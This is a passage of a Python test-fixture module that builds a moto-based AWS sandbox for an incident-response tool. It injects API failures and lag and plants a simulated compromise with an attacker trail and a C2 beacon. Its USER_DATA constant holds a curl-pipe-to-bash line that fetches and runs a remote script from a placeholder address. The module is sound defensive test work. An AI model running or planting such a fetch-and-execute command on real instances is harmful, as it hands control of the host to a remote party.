"""The AWS sandbox: moto in-process, a planted incident, state snapshots and botocore-level failure injection."""

from __future__ import annotations

import base64
import json
import re
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack, contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any
from unittest import mock

import boto3
import botocore.handlers
import botocore.loaders
import botocore.session
from botocore.awsrequest import AWSResponse
from botocore.exceptions import ConnectionClosedError
from moto import mock_aws
from moto.core.botocore_stubber import BotocoreStubber, MockRawResponse
from moto.ebs.models import ebs_backends
from moto.ec2.models.elastic_block_store import EBSBackend as Ec2EbsBackend
from moto.ec2.models.security_groups import SecurityGroupBackend
from moto.iam.models import get_account_id_from
from moto.kms.models import kms_backends
from moto.sts.models import STSBackend

from cloudir.case import Case
from cloudir.plan import Step, run_plan
from cloudir.provider import AcquireOptions, TargetKind, TargetQuery
from moto_fixtures.aws_accounts import (
    SECURITY_ACCOUNT,
    account_session,
    create_trusted_role,
    cross_account_copy,
    strict_assume_role,
)
from moto_fixtures.aws_flows import plant_beacon
from moto_fixtures.clock import incident_clock, utc_now
from moto_fixtures.cloudtrail import fake_cloudtrail, plant_attacker_trail, record_responder_calls
from moto_fixtures.ebs_direct import block_checksum, ebs_direct_server
from moto_fixtures.guard import sandbox_environment
from moto_fixtures.logs_insights import STORE as INSIGHTS
from moto_fixtures.sandbox import PlantedIncident
from providers.aws import AwsProvider

ACCOUNT = "123456789012"
ATTACKER_IP = "203.0.113.66"
TRAIL_BUCKET = "cloudir-sandbox-trail"
REGION = "us-east-1"
FORENSIC_ACCOUNT = "111122223333"
FORENSIC_REGION = "us-west-2"
BLOCK = 512  # moto's EBS direct API block size
TAG_CASE = "cloudir:case-id"
_CREDENTIAL = re.compile(r"Credential=([^/]+)/[^/]+/([^/]+)/")  # access key and region of a SigV4 request
_EBS_READS = frozenset({"ListSnapshotBlocks", "GetSnapshotBlock"})  # answered by the EBS direct server
USER_DATA = b"#!/bin/bash\nyum install -y httpd\ncurl -s http://203.0.113.50/x.sh | bash\n"


# Service models are large JSON files; every sandbox shares one loader so each is parsed once per process.
_MODEL_LOADER = botocore.loaders.create_loader()


def _profile_parameter(request: dict[str, Any]) -> str:
    """The instance profile ARN (or name) of a serialized EC2 query request."""
    body = request.get("body") or {}
    return str(body.get("IamInstanceProfile.Arn") or body.get("IamInstanceProfile.Name") or "")


def _refusal(code: str, message: str, status: int, request_id: str) -> tuple[AWSResponse, dict[str, Any]]:
    """A before-call handler's answer in place of the service's: an error, parsed as botocore parses one."""
    parsed = {
        "Error": {"Code": code, "Message": message},
        "ResponseMetadata": {"HTTPStatusCode": status, "RequestId": request_id},
    }
    return AWSResponse("https://sandbox.invalid/", status, {}, None), parsed


class AwsSandbox:
    """moto's mock_aws with fake credentials, disk content for EBS direct reads, and failure injection."""

    cloud = "aws"

    def __init__(self, region: str = REGION, *, trail_files: bool = True) -> None:
        self.region = region
        self.trail_files = trail_files  # also write signed trail files to S3 (slower; the demo wants them)
        self.regions = {region, FORENSIC_REGION}
        self.session: boto3.Session | None = None
        self.disks: dict[str, dict[int, bytes]] = {}  # volume id -> block index -> data
        self._stack = ExitStack()
        self._clients: dict[tuple[str, str], Any] = {}
        self._failures: dict[str, str] = {}  # operation -> error code of its next call
        self._throttles: dict[str, int] = {}  # operation -> how many more sends answer RequestLimitExceeded
        self.throttled: list[str] = []  # operations answered with a throttle, in order
        self._losses: dict[str, int] = {}  # operation -> how many more sends execute and then lose their response
        self.lost: list[str] = []  # operations whose response was lost after they ran, in order
        # A new instance profile is unknown to EC2 for this long (real accounts: several seconds).
        self.iam_propagation_seconds = 0.5
        self._new_profiles: dict[str, float] = {}  # profile name the tool created -> monotonic creation time
        # Seconds every other API call takes (its round trip, in the calling thread). While it is set, calls are
        # counted, and so are the sequential ones: those that start with no other call in flight (the critical path).
        self.call_latency = 0.0
        self.calls = 0
        self.sequential_calls = 0
        self._calls_in_flight = 0
        # EBS direct reads are served by a process of their own (moto_fixtures.ebs_direct) at AWS_ENDPOINT_URL_EBS
        self.ebs_direct = ebs_direct_server()
        self._known_keys: set[str] = set()  # access keys whose account the EBS direct server was told
        self.block_reads_sent_here = 0  # GetSnapshotBlock calls sent by clients of this process (not reader processes)
        self._blocks: dict[str, dict[int, bytes]] = {}  # snapshot id -> its blocks (what a copy of it holds)
        self._block_latency = 0.0
        self._held: dict[str, Callable[[], bool]] = {}  # volume id -> its snapshots stay pending until this is true
        self._copies_until: Callable[[], bool] | None = None  # copies made from now on stay pending until it is true
        self._held_copies: dict[str, Callable[[], bool]] = {}  # copy id -> it stays pending until this is true
        # EC2 is eventually consistent: for this long (seconds; real accounts show about as much) after a snapshot
        # or security group is created, the tool's Describe* by filter omit it and any Describe* of the tool naming
        # its id is answered InvalidSnapshot.NotFound / InvalidGroup.NotFound. The sandbox's own clients (the
        # inspection helpers below) see the true state.
        self.describe_lag_seconds = 0.5
        # Every other EC2 call (CreateTags, CopySnapshot, ModifySnapshotAttribute, RevokeSecurityGroupEgress,
        # ModifyNetworkInterfaceAttribute, ...) naming such a resource is refused the same way for this long: EC2
        # promises no order between its APIs, so a resource Describe* already shows can still be unknown to the next
        # call (AWS EC2 API reference, "Eventual consistency").
        self.change_lag_seconds = 1.0
        self.operation_lag_seconds: dict[str, float] = {}  # operation -> its own lag, instead of the two above
        self._created: dict[str, float] = {}  # snapshot or security group id -> monotonic creation time
        # Likewise a share: for ``change_lag_seconds`` after the tool shares a snapshot, the account it was shared
        # with is answered InvalidSnapshot.NotFound when it copies it.
        self._shared: dict[str, float] = {}  # snapshot id -> monotonic time of the tool's createVolumePermission add
        self._in_flight_lock = threading.Lock()
        self.insights = INSIGHTS  # the Logs Insights fake's queries and knobs

    # -- lifecycle ------------------------------------------------------------------------------------------
    def __enter__(self) -> AwsSandbox:
        self._stack.enter_context(sandbox_environment())
        self.ebs_direct.call("reset")
        environment = {"MOTO_EC2_LOAD_DEFAULT_AMIS": "false", "AWS_ENDPOINT_URL_EBS": self.ebs_direct.url}
        self._stack.enter_context(mock.patch.dict("os.environ", environment))
        self._stack.enter_context(mock_aws())
        self._stack.enter_context(fake_cloudtrail())
        INSIGHTS.reset()  # CloudWatch Logs Insights as documented (moto's own is partial)
        self._stack.callback(INSIGHTS.reset)
        self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "create_snapshot", self._wrap_create_snapshot()))
        self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "copy_snapshot", self._wrap_copy_snapshot()))
        create_group = self._wrap_create_security_group()
        self._stack.enter_context(mock.patch.object(SecurityGroupBackend, "create_security_group", create_group))
        describe = self._wrap_describe_snapshots()
        self._stack.enter_context(mock.patch.object(Ec2EbsBackend, "describe_snapshots", describe))
        assume_role = strict_assume_role(STSBackend.assume_role)
        self._stack.enter_context(mock.patch.object(STSBackend, "assume_role", assume_role))
        # Armed before any client exists, so clients made earlier and later (the CLI's own sessions) all see it.
        for handler in (("before-call.*.*", self._inject_failure), ("after-call.ec2.*", self._omit_lagging)):
            botocore.handlers.BUILTIN_HANDLERS.append(handler)
            self._stack.callback(botocore.handlers.BUILTIN_HANDLERS.remove, handler)
        # botocore calls every before-send handler, so a throttle must answer instead of moto, not beside it: a
        # throttled request is refused before it executes, as AWS does, and only the SDK's retry runs it again.
        self._stack.enter_context(mock.patch.object(BotocoreStubber, "__call__", self._throttled_stubber()))
        # Sessions made inside the sandbox (ours, the CLI's) parse each service model once per process.
        self._stack.enter_context(mock.patch.object(botocore.session, "create_loader", return_value=_MODEL_LOADER))
        self.session = boto3.Session(region_name=self.region)
        record_responder_calls(self.session, ACCOUNT)
        return self

    def __exit__(self, *exc: object) -> None:
        self._stack.close()
        self.session = None
        self._clients.clear()

    def client(self, service: str, region: str | None = None) -> Any:
        """A plain boto3 client for the sandbox itself (not recorded in any case)."""
        assert self.session is not None, "enter the sandbox first"
        key = (service, region or self.region)
        if key not in self._clients:
            self._clients[key] = self.session.client(service, region_name=key[1])  # type: ignore[call-overload]
        return self._clients[key]

    def provider(self) -> AwsProvider:
        """An AwsProvider bound to this sandbox's session, polling without delay."""
        return AwsProvider(region=self.region, session=self.session, poll_seconds=0)

    # -- disk content: snapshots of seeded volumes carry blocks readable through the EBS direct APIs -----------
    def seed_disk(self, volume_id: str, blocks: dict[int, bytes]) -> None:
        """Give a volume content; later snapshots of it expose these blocks (index -> data)."""
        self.disks[volume_id] = blocks

    def hold_snapshots(self, volume_id: str, until: Callable[[], bool]) -> None:
        """Snapshots of ``volume_id`` taken from now on stay pending (unreadable) until ``until()`` is true."""
        self._held[volume_id] = until

    def hold_copies(self, until: Callable[[], bool]) -> None:
        """Snapshot copies made from now on stay pending (as a cross-region copy does for minutes) until ``until()``
        is true when they are described."""
        self._copies_until = until

    def hold_block_reads(self, timeout: float = 30.0) -> None:
        """GetSnapshotBlock calls wait until :meth:`release_block_reads` (one held past ``timeout`` is refused)."""
        self.ebs_direct.call("gate", True, timeout)

    def release_block_reads(self) -> None:
        """Let the held GetSnapshotBlock calls, and later ones, through."""
        self.ebs_direct.call("gate", False, 0.0)

    @property
    def block_latency(self) -> float:
        """Seconds each GetSnapshotBlock takes (AWS's guide uses 100 ms as its example)."""
        return float(self._block_latency)

    @block_latency.setter
    def block_latency(self, seconds: float) -> None:
        self._block_latency = seconds
        self.ebs_direct.call("latency", seconds)

    def barrier_block_reads(self, parties: int, timeout: float = 30.0) -> None:
        """Each GetSnapshotBlock waits until ``parties`` are in flight (a test of concurrency that does not depend on
        timing: too few readers in flight time the barrier out and the reads fail)."""
        self.ebs_direct.call("barrier", parties, timeout)

    def _block_stats(self) -> dict[str, Any]:
        stats: dict[str, Any] = self.ebs_direct.call("stats")
        return stats

    @property
    def block_reads_peak(self) -> int:
        """The most GetSnapshotBlock calls in flight at once."""
        return int(self._block_stats()["peak"])

    @property
    def block_reads_window(self) -> list[float]:
        """Monotonic times (of the server's clock): the first read's start, the last read's end."""
        return list(self._block_stats()["window"])

    @property
    def blocks_read(self) -> list[str]:
        """The snapshot of every block read, in order."""
        return list(self._block_stats()["read"])

    @property
    def refused_block_requests(self) -> list[str]:
        """The request lines (method and target) of the last EBS direct requests refused."""
        return list(self._block_stats()["refused"])

    @property
    def block_reads_sent_by_botocore(self) -> int:
        """GetSnapshotBlock requests that botocore sent (they carry its amz-sdk-invocation-id)."""
        return int(self._block_stats()["sdk_sends"])

    @property
    def ebs_direct_cpu(self) -> float:
        """CPU seconds the EBS direct server's process used so far."""
        return float(self._block_stats()["cpu"])

    def fault_block_reads(self, snapshot_id: str, index: int, *faults: tuple[Any, ...]) -> None:
        """The next reads of one block get these faults, one each: ``("status", status, code)`` (an error answer),
        ``("drop", header)`` (a 200 without that header), ``("close",)`` (the connection closes unanswered)."""
        self.ebs_direct.call("fault", self.region, snapshot_id, index, *faults)

    def clear_block_stats(self) -> None:
        """Start counting the reads in flight, their window and the blocks read afresh."""
        self.ebs_direct.call("clear-stats")

    def _store_blocks(
        self, owner: tuple[str, str], snapshot_id: str, status: str, gib: int, blocks: dict[int, bytes]
    ) -> None:
        """Give the EBS direct server a snapshot's blocks (``owner``: account, region), each with its checksum and a
        block token."""
        self._blocks[snapshot_id] = blocks
        stored = {index: (data, block_checksum(data), uuid.uuid4().hex) for index, data in blocks.items()}
        self.ebs_direct.call("snapshot", *owner, snapshot_id, status, gib, BLOCK, stored)

    def _wrap_create_snapshot(self) -> Any:
        original = Ec2EbsBackend.create_snapshot

        def create_snapshot(backend: Any, volume_id: str, description: str, *args: Any, **kwargs: Any) -> Any:
            snapshot = original(backend, volume_id, description, *args, **kwargs)
            self._created[snapshot.id] = time.monotonic()
            if volume_id in self._held:
                snapshot.status = "pending"
            if volume_id in self.disks:
                owner = (backend.account_id, backend.region_name)
                self._store_blocks(owner, snapshot.id, snapshot.status, snapshot.volume.size, self.disks[volume_id])
            return snapshot

        return create_snapshot

    def _wrap_create_security_group(self) -> Any:
        original = SecurityGroupBackend.create_security_group

        def create_security_group(backend: Any, *args: Any, **kwargs: Any) -> Any:
            group = original(backend, *args, **kwargs)
            self._created[group.id] = time.monotonic()
            return group

        return create_security_group

    def _wrap_describe_snapshots(self) -> Any:
        """A held snapshot or copy completes (for EC2 and the EBS direct APIs) when described after its release."""
        original = Ec2EbsBackend.describe_snapshots

        def describe_snapshots(backend: Any, snapshot_ids: list[str] | None = None, filters: Any = None) -> Any:
            for snapshot in backend.snapshots.values():
                until = self._held_copies.get(snapshot.id) or self._held.get(snapshot.volume.id)
                if snapshot.status == "pending" and until is not None and until():
                    snapshot.status = "completed"
                    self._held_copies.pop(snapshot.id, None)
                    if snapshot.volume.id in self.disks or snapshot.id in self._blocks:
                        self.ebs_direct.call("status", backend.region_name, snapshot.id, "completed")
            return original(backend, snapshot_ids, filters)

        return describe_snapshots

    def _wrap_copy_snapshot(self) -> Any:
        def register(backend: Any, copy: Any, account: str, region: str, source_id: str) -> None:
            self._created[copy.id] = time.monotonic()
            if self._copies_until is not None:
                copy.status = "pending"
                self._held_copies[copy.id] = self._copies_until
            if source_id in self._blocks:
                blocks = self._blocks[source_id]
                owner = (backend.account_id, backend.region_name)
                self._store_blocks(owner, copy.id, copy.status, copy.volume.size, blocks)

        return cross_account_copy(Ec2EbsBackend.copy_snapshot, register)

    def direct_snapshot(self, blocks: dict[int, bytes]) -> str:
        """A 1 GiB snapshot written through StartSnapshot / PutSnapshotBlock / CompleteSnapshot with ``blocks``."""
        assert self.session is not None, "enter the sandbox first"
        ebs = self.session.client(
            "ebs", region_name=self.region, endpoint_url=f"https://ebs.{self.region}.amazonaws.com"
        )
        snapshot_id: str = ebs.start_snapshot(VolumeSize=1, Description="direct")["SnapshotId"]
        for index, data in blocks.items():
            ebs.put_snapshot_block(
                SnapshotId=snapshot_id,
                BlockIndex=index,
                BlockData=data,
                DataLength=len(data),
                Checksum=block_checksum(data),
                ChecksumAlgorithm="SHA256",
            )
        ebs.complete_snapshot(SnapshotId=snapshot_id, ChangedBlocksCount=len(blocks))
        stored = ebs_backends[ACCOUNT][self.region].snapshots[snapshot_id].blocks
        self._store_blocks(
            (ACCOUNT, self.region), snapshot_id, "completed", 1, {i: b.block_data for i, b in stored.items()}
        )
        return snapshot_id

    def corrupt_block(self, snapshot_id: str, index: int, region: str | None = None) -> None:
        """Make the EBS direct API send a wrong checksum for one block of a snapshot."""
        self.ebs_direct.call("tamper", region or self.region, snapshot_id, index)

    def break_block_read(self, snapshot_id: str, index: int, region: str | None = None) -> None:
        """Make the EBS direct API break the connection halfway through one block's body."""
        self.ebs_direct.call("cut", region or self.region, snapshot_id, index)

    # -- failure injection at the botocore layer -----------------------------------------------------------
    @contextmanager
    def fail_next(self, operation: str, error_code: str = "InternalError") -> Iterator[None]:
        """The next call of ``operation`` (any service, any client of any session) fails with ``error_code``."""
        self._failures[operation] = error_code
        try:
            yield
        finally:
            self._failures.pop(operation, None)

    def _unpropagated_profile(self, model: Any, params: dict[str, Any]) -> bool:
        """IAM is eventually consistent: EC2 does not know an instance profile for a few seconds after creation."""
        if model.name not in {"AssociateIamInstanceProfile", "ReplaceIamInstanceProfileAssociation"}:
            return False
        created = self._new_profiles.get(_profile_parameter(params).rsplit("/", 1)[-1])
        return created is not None and time.monotonic() - created < self.iam_propagation_seconds

    def _call_latency(self) -> None:
        """One API call's round trip of ``call_latency`` seconds, counted (sequential when no other is in flight)."""
        with self._in_flight_lock:
            self.calls += 1
            self.sequential_calls += self._calls_in_flight == 0
            self._calls_in_flight += 1
        try:
            time.sleep(self.call_latency)
        finally:
            with self._in_flight_lock:
                self._calls_in_flight -= 1

    def _lagging(self, operation: str = "") -> set[str]:
        """Snapshots and security groups ``operation`` does not know yet: created less than ``describe_lag_seconds``
        ago for a Describe*, ``change_lag_seconds`` for any other call, unless ``operation_lag_seconds`` names the
        operation (for a CopySnapshot, also the snapshots shared that recently)."""
        lag = self.describe_lag_seconds if operation.startswith("Describe") else self.change_lag_seconds
        lag = self.operation_lag_seconds.get(operation, lag)
        seen = time.monotonic() - lag
        recent = {resource for resource, at in self._created.items() if at > seen}
        if operation == "CopySnapshot":
            recent |= {snapshot for snapshot, at in self._shared.items() if at > seen}
        return recent

    def _unseen_resource(self, model: Any, params: dict[str, Any]) -> tuple[str, str] | None:
        """The NotFound error EC2 answers while a call names a resource created too recently (eventual consistency)."""
        if model.service_model.service_name != "ec2":
            return None
        body = params.get("body") or {}
        named = self._lagging(model.name) & {str(v) for v in body.values()} if isinstance(body, dict) else set()
        for resource in sorted(named):
            if resource.startswith("sg-"):
                return "InvalidGroup.NotFound", f"The security group '{resource}' does not exist"
            return "InvalidSnapshot.NotFound", f"The snapshot '{resource}' does not exist."
        return None

    def _omit_lagging(self, model: Any, parsed: dict[str, Any], context: dict[str, Any], **_: Any) -> None:
        """An after-call handler: the tool's Describe* listings omit what was created too recently."""
        if not context.get("sandbox_tool") or not self.describe_lag_seconds:
            return
        lagging = self._lagging(model.name)
        for key, id_key in (("Snapshots", "SnapshotId"), ("SecurityGroups", "GroupId")):
            if model.name.startswith("Describe") and isinstance(parsed.get(key), list):
                parsed[key] = [item for item in parsed[key] if item.get(id_key) not in lagging]

    def _inject_failure(self, model: Any, params: dict[str, Any], context: dict[str, Any], **_: Any) -> Any:
        """A before-call handler: short-circuits a call armed by :meth:`fail_next`, or one that IAM propagation or EC2's
        eventual consistency refuse (those two for the tool's own calls, told by its user agent)."""
        if self.call_latency and model.name not in _EBS_READS:
            self._call_latency()
        error_code = self._failures.pop(model.name, None)
        user_agent = str((params.get("headers") or {}).get("User-Agent", ""))
        context["sandbox_tool"] = "cloudir/" in user_agent
        body = params.get("body") or {}
        if model.name == "CreateInstanceProfile" and context["sandbox_tool"]:  # the tool's own new profile
            self._new_profiles[str(body.get("InstanceProfileName"))] = time.monotonic()
        if model.name == "ModifySnapshotAttribute" and context["sandbox_tool"] and body.get("OperationType") == "add":
            self._shared[str(body.get("SnapshotId"))] = time.monotonic()
        if error_code is not None:
            status = 500 if error_code in {"InternalError", "ServiceUnavailable"} else 400
            return _refusal(error_code, f"injected {error_code} for {model.name}", status, "sandbox-injected")
        if self._unpropagated_profile(model, params):
            message = (
                f"Value ({_profile_parameter(params)}) for parameter iamInstanceProfile.arn is invalid. "
                "Invalid IAM Instance Profile ARN"
            )
            return _refusal("InvalidParameterValue", message, 400, "sandbox-iam-propagation")
        unseen = self._unseen_resource(model, params) if context["sandbox_tool"] else None
        if unseen is not None:
            return _refusal(*unseen, 400, "sandbox-eventual-consistency")
        return None

    @staticmethod
    @contextmanager
    def _armed(table: dict[str, int], operation: str, times: int) -> Iterator[None]:
        table[operation] = times
        try:
            yield
        finally:
            table.pop(operation, None)

    def throttle(self, operation: str, times: int) -> AbstractContextManager[None]:
        """EC2 answers the next ``times`` sends of ``operation`` with RequestLimitExceeded (the SDK retries these)."""
        return self._armed(self._throttles, operation, times)

    def lose_responses(self, operation: str, times: int) -> AbstractContextManager[None]:
        """The next ``times`` sends of ``operation`` run, then their response is lost (the connection closes)."""
        return self._armed(self._losses, operation, times)

    def _tell_account(self, request: Any) -> None:
        """Tell the EBS direct server the account of a request's access key (moto knows it, the server does not).

        Readers in other processes use the credentials of the client that listed the blocks here first.
        """
        credential = _CREDENTIAL.search(str(request.headers.get("Authorization", "")))
        if credential is not None and credential.group(1) not in self._known_keys:
            self.ebs_direct.call("key", credential.group(1), get_account_id_from(credential.group(1)))
            self._known_keys.add(credential.group(1))

    def _throttled_stubber(self) -> Any:
        """moto's request handler: a throttled send is refused unexecuted; a lost one runs and its answer is dropped."""
        original = BotocoreStubber.__call__

        def stub(stubber: BotocoreStubber, event_name: str, request: Any, **kwargs: Any) -> Any:
            operation = event_name.rsplit(".", 1)[-1]
            if stubber.enabled and self._throttles.get(operation, 0) > 0:
                self._throttles[operation] -= 1
                self.throttled.append(operation)
                body = (
                    "<Response><Errors><Error><Code>RequestLimitExceeded</Code><Message>Request limit exceeded."
                    "</Message></Error></Errors><RequestID>sandbox-throttle</RequestID></Response>"
                )
                return AWSResponse(request.url, 503, {}, MockRawResponse(body))
            if stubber.enabled and operation in _EBS_READS:
                self.block_reads_sent_here += operation == "GetSnapshotBlock"
                self._tell_account(request)
                return None  # sent on to the EBS direct server
            response = original(stubber, event_name, request, **kwargs)
            if stubber.enabled and self._losses.get(operation, 0) > 0:
                self._losses[operation] -= 1
                self.lost.append(operation)
                raise ConnectionClosedError(endpoint_url=request.url)
            return response

        return stub

    # -- the planted incident ------------------------------------------------------------------------------
    def plant_incident(self) -> PlantedIncident:
        """A web server in an Auto Scaling group, two volumes (one on aws/ebs), a role, a leaked access key."""
        ec2 = self.client("ec2")
        now = utc_now()
        anchor = incident_clock(now)
        key_arn = create_customer_key(self, self.region, "cloudir-forensics")
        create_customer_key(self, FORENSIC_REGION, "cloudir-forensics")
        profile_arn = create_instance_role(self, "web-app-role", "web-app-profile")
        instance_id = launch_asg_instance(self, "web-asg", profile_arn)
        instance = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]
        zone = instance["Placement"]["AvailabilityZone"]
        root_volume = instance["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
        data_volume = ec2.create_volume(Size=1, AvailabilityZone=zone, Encrypted=True)["VolumeId"]
        ec2.attach_volume(VolumeId=data_volume, InstanceId=instance_id, Device="/dev/sdf")
        mark_aws_managed(self, ec2.describe_volumes(VolumeIds=[data_volume])["Volumes"][0]["KmsKeyId"], self.region)
        self.seed_disk(root_volume, {0: b"\xeb\x63\x90BOOT".ljust(BLOCK, b"\0"), 7: b"/etc/passwd".ljust(BLOCK, b"\0")})
        self.seed_disk(data_volume, {2048: b"stolen-customer-data".ljust(BLOCK, b"\0")})
        _, access_key = create_user_with_key(self, "ci-deployer")
        eni = instance["NetworkInterfaces"][0]
        incident = PlantedIncident(
            cloud="aws",
            target=TargetQuery(TargetKind.INSTANCE, instance_id, self.region),
            attacker_principal=f"arn:aws:sts::{ACCOUNT}:assumed-role/web-app-role/{instance_id}",
            window_start=(anchor - timedelta(days=15)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            window_end=(now + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ"),  # and the tool's own calls
            forensic_account=FORENSIC_ACCOUNT,
            encryption_key=key_arn,
            access_key=access_key,
            alternate_targets=[
                TargetQuery(TargetKind.INSTANCE, instance["PrivateIpAddress"], self.region),
                TargetQuery(TargetKind.INSTANCE, instance["PublicIpAddress"], self.region),
                TargetQuery(TargetKind.INSTANCE, eni["NetworkInterfaceId"], self.region),
            ],
            extra={
                "instance_id": instance_id,
                "asg": "web-asg",
                "role": "web-app-role",
                "user": "ci-deployer",
                "volumes": [root_volume, data_volume],
                "forensic_region": FORENSIC_REGION,
                "flow_logs": True,  # the implant beacons to ATTACKER_IP; its VPC's flow logs hold it
                "c2": ATTACKER_IP,
            },
        )
        plant_attacker_trail(
            account_id=ACCOUNT,
            region=self.region,
            instance_id=instance_id,
            role_arn=f"arn:aws:iam::{ACCOUNT}:role/web-app-role",
            attacker_ip=ATTACKER_IP,
            start=anchor - timedelta(minutes=90),
            bucket=TRAIL_BUCKET if self.trail_files else None,
        )
        plant_beacon(self, instance_id, ACCOUNT, anchor, ATTACKER_IP)
        return incident

    # -- inspection ----------------------------------------------------------------------------------------
    def snapshots_for_case(self, case_id: str) -> list[str]:
        """Snapshots and copies tagged with the case id, in every sandbox region."""
        found = []
        for region in sorted(self.regions):
            snaps = self.client("ec2", region).describe_snapshots(
                OwnerIds=["self"], Filters=[{"Name": f"tag:{TAG_CASE}", "Values": [case_id]}]
            )["Snapshots"]
            found += [s["SnapshotId"] for s in snaps]
        return sorted(found)

    def is_preserved(self, incident: PlantedIncident) -> bool:
        """Termination protection, stop on shutdown, volumes kept, and out of reach of scale-in."""
        ec2 = self.client("ec2", incident.target.location)
        iid = incident.extra["instance_id"]
        attrs = _instance_attributes(ec2, iid)
        members = self.client("autoscaling", incident.target.location).describe_auto_scaling_instances(
            InstanceIds=[iid]
        )["AutoScalingInstances"]
        asg_safe = (
            not members or members[0]["ProtectedFromScaleIn"] or members[0]["LifecycleState"].startswith("Standby")
        )
        return bool(
            attrs["disableApiTermination"]
            and attrs["instanceInitiatedShutdownBehavior"] == "stop"
            and not any(attrs["deleteOnTermination"].values())
            and asg_safe
        )

    def is_isolated(self, incident: PlantedIncident) -> bool:
        """Every interface of the instance sits only in a rule-less cloudir isolation group."""
        ec2 = self.client("ec2", incident.target.location)
        iid = incident.extra["instance_id"]
        enis = ec2.describe_network_interfaces(Filters=[{"Name": "attachment.instance-id", "Values": [iid]}])[
            "NetworkInterfaces"
        ]
        group_ids = {g["GroupId"] for eni in enis for g in eni["Groups"]}
        if not enis or not group_ids:
            return False
        groups = ec2.describe_security_groups(GroupIds=sorted(group_ids))["SecurityGroups"]
        return all(
            g["GroupName"].startswith("cloudir-isolation") and not g.get("IpPermissionsEgress") for g in groups
        ) and all(len(eni["Groups"]) == 1 for eni in enis)

    def state(self) -> dict[str, Any]:
        """Everything a dry run must not change, as plain data."""
        state: dict[str, Any] = {"regions": {}, "iam": _iam_state(self.client("iam")), "s3": self._s3_state()}
        for region in sorted(self.regions):
            ec2, asg, kms = self.client("ec2", region), self.client("autoscaling", region), self.client("kms", region)
            instances = [i for r in ec2.describe_instances()["Reservations"] for i in r["Instances"]]
            snapshots = ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"]
            state["regions"][region] = {
                "instances": {
                    i["InstanceId"]: {
                        "state": i["State"]["Name"],
                        "attributes": _instance_attributes(ec2, i["InstanceId"]),
                        "interfaces": {
                            e["NetworkInterfaceId"]: sorted(g["GroupId"] for g in e["Groups"])
                            for e in i.get("NetworkInterfaces", [])
                        },
                        "profile": (i.get("IamInstanceProfile") or {}).get("Arn"),
                    }
                    for i in instances
                },
                "volumes": {v["VolumeId"]: [v["State"], v.get("KmsKeyId")] for v in ec2.describe_volumes()["Volumes"]},
                "snapshots": {
                    s["SnapshotId"]: {
                        "volume": s["VolumeId"],
                        "tags": sorted((t["Key"], t["Value"]) for t in s.get("Tags", [])),
                        "shared_with": ec2.describe_snapshot_attribute(
                            SnapshotId=s["SnapshotId"], Attribute="createVolumePermission"
                        )["CreateVolumePermissions"],
                    }
                    for s in snapshots
                },
                "security_groups": {
                    g["GroupId"]: json.loads(json.dumps([g["GroupName"], g["IpPermissions"], g["IpPermissionsEgress"]]))
                    for g in ec2.describe_security_groups()["SecurityGroups"]
                },
                "autoscaling": {
                    m["InstanceId"]: [m["LifecycleState"], m["ProtectedFromScaleIn"]]
                    for m in asg.describe_auto_scaling_instances()["AutoScalingInstances"]
                },
                "kms_grants": {
                    k["KeyId"]: len(kms.list_grants(KeyId=k["KeyId"])["Grants"]) for k in kms.list_keys()["Keys"]
                },
            }
        return state

    def _s3_state(self) -> dict[str, list[str]]:
        s3 = self.client("s3")
        return {
            b["Name"]: sorted(o["Key"] for o in s3.list_objects_v2(Bucket=b["Name"]).get("Contents", []))
            for b in s3.list_buckets()["Buckets"]
        }


# -- scenario builders (also used by moto_fixtures.fixtures_aws) -----------------------------------------------
def calls_of_forensic_acquisition(
    sandbox: AwsSandbox, volumes: int, folder: Path, latency: float
) -> dict[str, tuple[int, int]]:
    """Each step's calls and sequential calls (see ``call_latency``) when an instance of ``volumes`` volumes is
    acquired into the forensic account's ownership (cross-region copy, share, own copy, unshare; no raw image), every
    call taking ``latency`` seconds."""
    assert sandbox.session is not None
    instance_id = launch_instance(sandbox, extra_volumes=volumes - 1)
    forensic = account_session(FORENSIC_ACCOUNT, FORENSIC_REGION)
    key = forensic.client("kms").create_key(Description="evidence")["KeyMetadata"]["Arn"]
    provider = AwsProvider(
        region=sandbox.region,
        session=account_session(SECURITY_ACCOUNT, sandbox.region),
        poll_seconds=0,
        role_arn=create_trusted_role(sandbox.session, f"cloudir-responder-{volumes}", SECURITY_ACCOUNT, None),
        forensic_role_arn=create_trusted_role(forensic, f"cloudir-forensic-{volumes}", SECURITY_ACCOUNT, None),
    )
    case = Case.create(folder)
    provider.bind(case)
    target = provider.find_target(TargetQuery(TargetKind.INSTANCE, instance_id, sandbox.region))
    options = AcquireOptions(
        forensic_account=FORENSIC_ACCOUNT, forensic_location=FORENSIC_REGION, extra={"forensic_kms_key": key}
    )
    plan = provider.plan_acquire(target, options)
    figures: dict[str, tuple[int, int]] = {}

    def observe(step: Step, status: str) -> None:
        if status == "running":
            sandbox.calls, sandbox.sequential_calls = 0, 0
        else:
            figures[step.id] = (sandbox.calls, sandbox.sequential_calls)

    sandbox.call_latency = latency
    try:
        result = run_plan(plan, case, observer=observe)
    finally:
        sandbox.call_latency = 0.0
    case.close()
    assert result.ok, result.outcomes
    return figures


def create_customer_key(sandbox: AwsSandbox, region: str, alias: str) -> str:
    """A customer-managed KMS key with an alias; returns its ARN."""
    kms = sandbox.client("kms", region)
    key = kms.create_key(Description=f"{alias} (sandbox)")["KeyMetadata"]
    kms.create_alias(AliasName=f"alias/{alias}", TargetKeyId=key["KeyId"])
    return str(key["Arn"])


def mark_aws_managed(sandbox: AwsSandbox, key_id: str, region: str) -> None:
    """Make moto report a key as AWS-managed, as real AWS does for the aws/ebs default key."""
    backend = kms_backends[ACCOUNT][region]
    backend.keys[backend.any_id_to_key_id(key_id)].key_manager = "AWS"


def create_instance_role(sandbox: AwsSandbox, role: str, profile: str) -> str:
    """A role with an inline S3 policy and an attached managed policy, in an instance profile; returns its ARN."""
    iam = sandbox.client("iam")
    trust = {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}],
    }
